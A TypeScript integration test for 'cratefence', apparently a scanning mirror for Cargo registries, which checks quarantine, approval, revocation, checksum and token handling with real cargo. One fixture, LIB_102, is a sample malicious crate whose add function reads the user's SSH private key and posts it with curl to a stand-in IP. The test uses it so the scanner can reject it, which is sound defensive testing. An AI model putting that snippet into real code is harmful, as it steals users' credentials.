/**
 * `cratefence serve` as a Cargo sparse registry, driven by the REAL cargo (rustup's, ≥ 1.68): a
 * project behind the mirror (`[source.crates-io] replace-with = "fence"`), whose upstream is a
 * local registry the test builds. cargo only resolves and downloads (generate-lockfile, update,
 * fetch) with an empty CARGO_HOME of its own; nothing is built. Every cargo command and what it
 * printed is logged (CRATEFENCE_TEST_LOG=1 prints them) for the docs and the release notes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { copyFileSync } from 'node:fs';
import path from 'node:path';
import { ScanPool } from '../src/runner/index.js';
import { RegistryClient } from '../src/registry/index.js';
import { startRegistryServer, type RegistryServer } from './helpers/registry-server.js';
import { filesUnder, startRig, suiteDir, type ServeRig } from './helpers/serve.js';
import { cargoAvailable, cargoProject, type CargoProject, type CargoRun } from './helpers/cargo.js';

const HAVE_CARGO = cargoAvailable();
const tmp = suiteDir('cf-mirror-cargo-');
let upstream: RegistryServer;
let pool: ScanPool;
let rig: ServeRig;
let authRig: ServeRig;

const LIB_100 = '/// Adds two numbers.\npub fn add(a: u64, b: u64) -> u64 {\n    a.wrapping_add(b)\n}\n';
// A new public function that opens connections: new network capability, `review`.
const LIB_101 = `${LIB_100}\n/// Sends a sum to a collector the caller names.\npub fn report(addr: &str, v: u64) -> std::io::Result<()> {\n    use std::io::Write;\n    let mut s = std::net::TcpStream::connect(addr)?;\n    s.write_all(&v.to_le_bytes())\n}\n`;
// The payload: \`add\` now reads the SSH key and posts it with curl: \`block\`.
const LIB_102 = `/// Adds two numbers.\npub fn add(a: u64, b: u64) -> u64 {\n    refresh();\n    a.wrapping_add(b)\n}\n\nfn refresh() {\n    let home = std::env::var("HOME").unwrap_or_default();\n    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg("-d").arg(key).arg("http://203.0.113.9/k").status();\n}\n`;

const runs: CargoRun[] = [];
const log = (r: CargoRun) => {
  runs.push(r);
  if (process.env.CRATEFENCE_TEST_LOG === '1') console.log(`$ ${r.command}   (exit ${r.code})\n${r.output}`);
  return r;
};
const sourceConfig = (base: string) => `[source.crates-io]\nreplace-with = "fence"\n\n[source.fence]\nregistry = "sparse+${base}/index/"\n`;
const indexRequests = () => upstream.requestsTo('/index/').length;

async function release(name: string, version: string) {
  return rig.svc.releases.status(name, version);
}

beforeAll(async () => {
  if (!HAVE_CARGO) return;
  upstream = await startRegistryServer();
  // 1.0.0 is months old when the mirror first sees `demo` (its baseline); 1.0.1 and 1.0.2 are new.
  await upstream.publish('demo', '1.0.0', LIB_100, { pubtime: '2026-06-01T00:00:00Z' });
  await upstream.publish('demo', '1.0.1', LIB_101, { pubtime: '2026-11-30T22:00:00Z' });
  await upstream.publish('demo', '1.0.2', LIB_102, { pubtime: '2026-11-30T23:00:00Z' });
  // A crate whose upstream tarballs do not match the upstream index: an old one (baseline) and a new one.
  await upstream.publish('tampered', '0.1.0', LIB_100, { pubtime: '2026-05-01T00:00:00Z', cksum: 'ab'.repeat(32) });
  await upstream.publish('tampered', '0.2.0', LIB_100, { pubtime: '2026-11-30T23:00:00Z', cksum: 'cd'.repeat(32) });
  pool = new ScanPool({ threads: 1 });
  const client = () => new RegistryClient({ index: upstream.indexUrl, cargoHome: false, cacheDir: false, retries: 0, rememberUnreachable: false });
  rig = await startRig(path.join(tmp.dir, 'open'), {
    pool,
    users: [['admin', 'admin'], ['alice', 'reviewer'], ['bob', 'reviewer']],
    policy: { reviewers: 2, approval: { mode: 'count', count: 2, approvers: 'any-reviewer' }, mirror: { 'index-ttl-seconds': 3600 }, 'rate-limit-per-address-per-minute': 100_000 },
    upstream: client(),
  });
  authRig = await startRig(path.join(tmp.dir, 'auth'), { pool, users: [['admin', 'admin']], policy: { mirror: { 'auth-required': true } }, upstream: client() });
}, 60_000);

afterAll(async () => {
  if (!HAVE_CARGO) return tmp.remove();
  await rig?.close();
  await authRig?.close();
  await pool?.close();
  await upstream?.stop();
  if (process.env.CRATEFENCE_TEST_LOG !== '1') tmp.remove();
});

describe.skipIf(!HAVE_CARGO)('real cargo behind the cratefence mirror', () => {
  let first: CargoProject;
  let pinned100: string;

  it('cold: cargo generate-lockfile pulls demo through the mirror; only the baseline 1.0.0 is usable while 1.0.1 and 1.0.2 are scanned', async () => {
    first = cargoProject(tmp.dir, ['demo = "1"'], sourceConfig(rig.base));
    const r = log(await first.cargo(['generate-lockfile']));
    expect(r.code, r.output).toBe(0);
    expect(r.output).toContain('Updating `fence` index');
    expect(first.locked('demo')).toBe('1.0.0');
    expect(upstream.requestsTo('/index/de/mo/demo').length).toBe(1);
    await rig.svc.scheduler!.idle();
    expect((await release('demo', '1.0.0'))?.state).toBe('released');
    expect((await release('demo', '1.0.1'))?.state).toBe('quarantined');
    expect((await release('demo', '1.0.2'))?.state).toBe('rejected');
    const v101 = (await rig.call('GET', `/v1/releases/${(await release('demo', '1.0.1'))!.id}`, rig.tokens.admin)).json.release;
    expect(v101).toMatchObject({ origin: 'upstream', baseVersion: '1.0.0', verdict: 'review' });
  }, 120_000);

  it('with 1.0.0 released and 1.0.1 quarantined, generate-lockfile locks 1.0.0 — answered from the mirror\'s cache, no upstream request', async () => {
    const before = indexRequests();
    const p = cargoProject(tmp.dir, ['demo = "1"'], sourceConfig(rig.base));
    const r = log(await p.cargo(['generate-lockfile']));
    expect(r.code, r.output).toBe(0);
    expect(p.locked('demo')).toBe('1.0.0');
    expect(indexRequests()).toBe(before);
    pinned100 = path.join(tmp.dir, 'pinned-1.0.0.lock');
    copyFileSync(path.join(p.dir, 'Cargo.lock'), pinned100);
    // What a developer sees who asks for the held-back version itself.
    const exact = cargoProject(tmp.dir, ['demo = "=1.0.1"'], sourceConfig(rig.base));
    const held = log(await exact.cargo(['generate-lockfile']));
    expect(held.code).not.toBe(0);
    expect(held.output).toMatch(/demo.*1\.0\.1.*yanked|yanked.*1\.0\.1/s);
  }, 120_000);

  it('after the approvals, cargo update moves to 1.0.1; the payload 1.0.2 is never picked', async () => {
    const id = (await release('demo', '1.0.1'))!.id;
    for (const who of ['alice', 'bob']) expect((await rig.call('POST', `/v1/releases/${id}/approvals`, rig.tokens[who], { reason: 'read the diff' })).status).toBe(200);
    expect((await release('demo', '1.0.1'))?.state).toBe('released');
    const before = indexRequests();
    const r = log(await first.cargo(['update']));
    expect(r.code, r.output).toBe(0);
    expect(r.output).toMatch(/Updating demo v1\.0\.0 -> v1\.0\.1/);
    expect(first.locked('demo')).toBe('1.0.1');
    expect(indexRequests()).toBe(before);
    const fetched = log(await first.cargo(['fetch']));
    expect(fetched.code, fetched.output).toBe(0);
    expect(fetched.output).toContain('Downloaded demo v1.0.1');
    // Asked for by name, the rejected payload is yanked to cargo and its download is refused.
    const precise = log(await first.cargo(['update', '-p', 'demo', '--precise', '1.0.2']));
    if (precise.code === 0) {
      expect(first.locked('demo')).toBe('1.0.2');
      const refused = log(await first.cargo(['fetch']));
      expect(refused.code).not.toBe(0);
      expect(refused.output).toContain('cratefence: demo 1.0.2 was rejected');
      expect(refused.output).toContain('got 410');
    } else expect(precise.output).toMatch(/yanked|1\.0\.2/);
  }, 180_000);

  it('after 1.0.0 is revoked, cargo fetch of a lockfile pinning it fails with the reason', async () => {
    const id = (await release('demo', '1.0.0'))!.id;
    const reason = 'credential stealer found in build.rs (advisory CF-2026-0001)';
    expect((await rig.call('POST', `/v1/releases/${id}/revocations`, rig.tokens.admin, { reason })).status).toBe(200);
    const p = cargoProject(tmp.dir, ['demo = "1"'], sourceConfig(rig.base));
    copyFileSync(pinned100, path.join(p.dir, 'Cargo.lock'));
    const r = log(await p.cargo(['fetch']));
    expect(r.code).not.toBe(0);
    expect(r.output).toContain('got 410');
    expect(r.output).toContain(`cratefence: demo 1.0.0 was revoked on`);
    expect(r.output).toContain(`by admin: ${reason}`);
  }, 120_000);

  it('an upstream tarball whose checksum disagrees with the upstream index is refused and never served', async () => {
    const p = cargoProject(tmp.dir, ['tampered = "0.1"'], sourceConfig(rig.base));
    const lock = log(await p.cargo(['generate-lockfile']));
    expect(lock.code, lock.output).toBe(0);
    expect(p.locked('tampered')).toBe('0.1.0');
    await rig.svc.scheduler!.idle();
    // 0.2.0 was new: its scan fetched it, found the mismatch and rejected it.
    const v020 = (await rig.call('GET', `/v1/releases/${(await release('tampered', '0.2.0'))!.id}`, rig.tokens.admin)).json.release;
    expect(v020.state).toBe('rejected');
    expect(v020.scanError).toContain('checksum mismatch');
    // 0.1.0 was baseline: its first download fetches it, finds the mismatch, refuses it and rejects it.
    const r = log(await p.cargo(['fetch']));
    expect(r.code).not.toBe(0);
    expect(r.output).toContain('cratefence: tampered 0.1.0 was rejected');
    expect(r.output).toContain('checksum mismatch');
    expect((await release('tampered', '0.1.0'))?.state).toBe('rejected');
    const bad = upstream.crates.get('tampered')!.map((v) => createHash('sha256').update(v.bytes).digest('hex'));
    const kept = filesUnder(rig.blobsDir).join('\n');
    for (const sha of [...bad, 'ab'.repeat(32), 'cd'.repeat(32)]) expect(kept).not.toContain(sha);
    const again = await rig.call('GET', '/dl/tampered/0.1.0/download', null);
    expect(again.status).toBe(410);
    const index = await rig.call('GET', '/index/ta/mp/tampered', null);
    expect(index.json.split('\n').filter(Boolean).map((l: string) => JSON.parse(l).yanked)).toEqual([true, true]);
  }, 120_000);

  it('a private mirror: auth-required in config.json, cargo sends the token from CARGO_REGISTRIES_FENCE_TOKEN', async () => {
    const token = (await authRig.call('POST', '/v1/readers', authRig.tokens.admin, { name: 'ci' })).json.token as string;
    expect(token).toMatch(/^cf_/);
    const config = `[source.crates-io]\nreplace-with = "fence"\n\n[registries.fence]\nindex = "sparse+${authRig.base}/index/"\n\n[registry]\nglobal-credential-providers = ["cargo:token"]\n`;
    const p = cargoProject(tmp.dir, ['demo = "1"'], config);
    const none = log(await p.cargo(['generate-lockfile']));
    expect(none.code).not.toBe(0);
    expect(none.output).toContain('no token found for `fence`');
    const wrong = log(await p.cargo(['generate-lockfile'], { env: { CARGO_REGISTRIES_FENCE_TOKEN: `cf_${'x'.repeat(43)}` } }));
    expect(wrong.code).not.toBe(0);
    expect(wrong.output).toContain('401');
    const ok = log(await p.cargo(['generate-lockfile'], { env: { CARGO_REGISTRIES_FENCE_TOKEN: token } }));
    expect(ok.code, ok.output).toBe(0);
    expect(p.locked('demo')).toBe('1.0.0');
    const fetched = log(await p.cargo(['fetch'], { env: { CARGO_REGISTRIES_FENCE_TOKEN: token } }));
    expect(fetched.code, fetched.output).toBe(0);
    expect(fetched.output).toContain('Downloaded demo v1.0.0');
    // Without the token nothing is answered, not even config.json.
    expect((await authRig.call('GET', '/index/config.json', null)).status).toBe(401);
    expect((await authRig.call('GET', '/index/config.json', null, undefined, undefined, { authorization: token })).json).toMatchObject({ 'auth-required': true });
  }, 180_000);
});
